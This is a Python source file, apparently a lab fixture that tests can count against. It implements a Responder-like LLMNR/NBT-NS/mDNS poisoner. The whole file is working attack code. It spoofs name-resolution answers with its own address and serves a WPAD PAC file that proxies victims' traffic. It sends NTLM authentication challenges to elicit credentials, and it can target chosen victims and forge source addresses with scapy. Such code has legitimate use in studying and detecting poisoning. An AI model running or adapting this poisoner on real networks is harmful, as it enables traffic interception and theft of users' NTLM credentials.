#!/usr/bin/python3
"""A Responder-like poisoner for the lab (run inside ad-poisoner). It answers the way
shared/notes/poisoning-facts.md describes Responder:

- NBT-NS: every broadcast name query with flags 0x0110, answered unicast with flags 0x8500,
  QDCOUNT 0, ANCOUNT 1, NB_FLAGS 0, TTL 165, its own address;
- LLMNR over IPv4 and IPv6: every query with flags 0, answered with flags 0x8000, the question
  copied, the answer name written in full (no compression pointer), TTL 30;
- mDNS: every query, answered unicast to the querier with ID 0, flags 0x8400, no question,
  no cache-flush bit, TTL 120;
- HTTP on port 80: /wpad.dat (`Server: BigIP`, PAC `PROXY <ip>:3128; DIRECT`), anything else
  401 with `WWW-Authenticate: NTLM`.

Modes that real tools have (shared/notes/first-answer.md), combinable:
  --names A,B      answer only these names (Responder's RespondToName);
  --victims IP,..  answer only these queriers (Responder's RespondTo);
  --answer-with IP put another host's address in the answers (Responder's -e);
  --spoof-src IP   forge the IPv4 source of NBT-NS and LLMNR answers (Metasploit's spoofers:
                   the attacker's MAC, another host's address), sent as raw frames (scapy).

Every answer it sends is logged as a JSON line (--log), so tests can count them.
Addresses from the lab (198.18.0.0/15, fd00:198:18::/64).
"""
import argparse
import http.server
import json
import socket
import struct

import labnet
import threading
import time

LOCK = threading.Lock()


def log(logfile, **kv):
    kv["t"] = time.time()
    with LOCK, open(logfile, "a") as f:
        f.write(json.dumps(kv) + "\n")




def nb_decode(enc):
    raw = bytes(((enc[i] - 65) << 4) | (enc[i + 1] - 65) for i in range(0, 32, 2))
    return raw[:15].decode("latin-1").rstrip(), raw[15]


ASKED = {}


def wanted(a, name, src):
    """Whether the mode answers `name` asked by `src` (with --after N: only from the Nth query
    for the name from that host on, as Inveigh can: a canary asks once)."""
    if a.names and name.lower() not in a.names:
        return False
    if a.victims and src not in a.victims:
        return False
    if a.after > 1:
        k = (name.lower().removesuffix(".local"), src)
        ASKED[k] = ASKED.get(k, 0) + 1
        return ASKED[k] >= a.after
    return True


def send(a, sock, ans, dst):
    """Sends `ans` to `dst` from `sock`, or, with --spoof-src, as a raw frame from the forged
    IPv4 source (the poisoner's own MAC)."""
    if a.spoof_src and ":" not in dst[0]:
        from scapy.all import IP, UDP, Ether, getmacbyip, sendp
        mac = getmacbyip(dst[0]) or "ff:ff:ff:ff:ff:ff"
        sport = sock.getsockname()[1]
        sendp(Ether(dst=mac) / IP(src=a.spoof_src, dst=dst[0]) / UDP(sport=sport, dport=dst[1]) / ans, iface=a.iface, verbose=False)
    else:
        sock.sendto(ans, dst)


def nbns(a):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    s.bind(("", 137))
    ip = socket.inet_aton(a.answer_with or a.ip4)
    while True:
        m, src = s.recvfrom(2048)
        if len(m) < 50 or src[0] == a.ip4:
            continue
        tid, flags, qd = struct.unpack(">HHH", m[:6])
        if flags != 0x0110 or qd != 1:  # Responder: broadcast queries with these exact flags only
            continue
        name = m[12:46]
        n, suffix = nb_decode(name[1:33])
        if not wanted(a, n, src[0]):
            continue
        ans = struct.pack(">HHHHHH", tid, 0x8500, 0, 1, 0, 0) + name + struct.pack(">HHIHH", 0x20, 1, 165, 6, 0) + ip
        send(a, s, ans, src)
        log(a.log, proto="nbns", name=n, suffix=suffix, to=src[0])


def llmnr_answer(m, a, v6):
    tid, flags, qd, an = struct.unpack(">HHHH", m[:8])
    if flags != 0 or qd != 1 or an != 0:  # Responder: plain queries only
        return None, None
    name, off = labnet.read(m, 12)
    qtype, qclass = struct.unpack(">HH", m[off:off + 4])
    question = m[12:off + 4]
    if qtype == 28:
        rdata = socket.inet_pton(socket.AF_INET6, a.ip6)
    else:
        qtype, rdata = 1, socket.inet_aton(a.answer_with or a.ip4)
    full = labnet.encode(name)
    ans = struct.pack(">HHHHHH", tid, 0x8000, 1, 1, 0, 0) + question + full + struct.pack(">HHIH", qtype, 1, 30, len(rdata)) + rdata
    return ans, name


def llmnr4(a):
    s = labnet.group4(5355, "224.0.0.252", a.ip4)
    while True:
        m, src = s.recvfrom(2048)
        if src[0] == a.ip4:
            continue
        ans, name = llmnr_answer(m, a, False)
        if ans and wanted(a, name, src[0]):
            send(a, s, ans, src)
            log(a.log, proto="llmnr4", name=name, to=src[0])


def llmnr6(a):
    s = labnet.group6(5355, "ff02::1:3", a.iface)
    while True:
        m, src = s.recvfrom(2048)
        if src[0] == a.ip6:
            continue
        ans, name = llmnr_answer(m, a, True)
        if ans and wanted(a, name, src[0].split("%")[0]):
            s.sendto(ans, src)
            log(a.log, proto="llmnr6", name=name, to=src[0])


def mdns(a):
    s = labnet.group4(5353, "224.0.0.251", a.ip4)
    while True:
        m, src = s.recvfrom(2048)
        if src[0] == a.ip4 or len(m) < 12:
            continue
        _, flags, qd = struct.unpack(">HHH", m[:6])
        if flags & 0x8000 or qd < 1:
            continue
        name, off = labnet.read(m, 12)
        if not wanted(a, name.lower().removesuffix(".local"), src[0]) and not wanted(a, name, src[0]):
            continue
        full = labnet.encode(name)
        ans = struct.pack(">HHHHHH", 0, 0x8400, 0, 1, 0, 0) + full + struct.pack(">HHIH", 1, 1, 120, 4) + socket.inet_aton(a.answer_with or a.ip4)
        s.sendto(ans, src)  # unicast to the querier, even for QM questions
        log(a.log, proto="mdns", name=name, to=src[0])


def ntlm_challenge():
    """An NTLMSSP CHALLENGE as Responder sends it: target `WIN-` + 11 random characters."""
    import base64
    import random
    import string
    target = ("WIN-" + "".join(random.choice(string.ascii_uppercase + string.digits) for _ in range(11))).encode("utf-16-le")
    msg = b"NTLMSSP\x00" + struct.pack("<I", 2) + struct.pack("<HHI", len(target), len(target), 56) + struct.pack("<I", 0xE2898215)
    msg += bytes(random.getrandbits(8) for _ in range(8)) + bytes(8) + struct.pack("<HHI", 0, 0, 56 + len(target))
    msg += bytes([6, 1, 0xB1, 0x1D, 0, 0, 0, 15]) + target
    return base64.b64encode(msg).decode()


class Http(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        a = self.server.args
        auth = self.headers.get("Authorization", "")
        if auth.startswith("NTLM ") or auth.startswith("Negotiate "):
            # The client sent its NEGOTIATE: answer with a CHALLENGE, then deny whatever comes.
            self.send_response(401)
            self.send_header("WWW-Authenticate", "NTLM " + ntlm_challenge())
            self.send_header("Content-Length", "0")
            self.end_headers()
            log(a.log, proto="http-ntlm-challenge", path=self.path, to=self.client_address[0])
            return
        if self.path.endswith("wpad.dat"):
            body = f'function FindProxyForURL(url, host){{return "PROXY {a.ip4}:3128; DIRECT";}}'.encode()
            self.send_response(200)
            self.send_header("Content-Type", "application/x-ns-proxy-autoconfig")
        else:
            body = b""
            self.send_response(401)
            self.send_header("WWW-Authenticate", "NTLM")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
        log(a.log, proto="http", path=self.path, to=self.client_address[0])

    def version_string(self):
        return "BigIP"

    def log_message(self, *args):
        pass


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--ip4", default="198.18.0.66")
    p.add_argument("--ip6", default="fd00:198:18::66")
    p.add_argument("--iface", default="eth0")
    p.add_argument("--log", required=True)
    p.add_argument("--names", default="", help="answer only these names (comma-separated)")
    p.add_argument("--victims", default="", help="answer only these queriers (comma-separated addresses)")
    p.add_argument("--after", type=int, default=0, help="answer a name only from the Nth query for it from one host on (Inveigh)")
    p.add_argument("--answer-with", default="", help="the IPv4 address to put in answers (default: its own)")
    p.add_argument("--spoof-src", default="", help="forge this IPv4 source on NBT-NS and LLMNR answers")
    a = p.parse_args()
    a.names = [n.strip().lower() for n in a.names.split(",") if n.strip()]
    a.victims = [v.strip() for v in a.victims.split(",") if v.strip()]
    for fn in (nbns, llmnr4, llmnr6, mdns):
        threading.Thread(target=fn, args=(a,), daemon=True).start()
    srv = http.server.ThreadingHTTPServer(("0.0.0.0", 80), Http)
    srv.args = a
    log(a.log, proto="ready")
    srv.serve_forever()


if __name__ == "__main__":
    main()
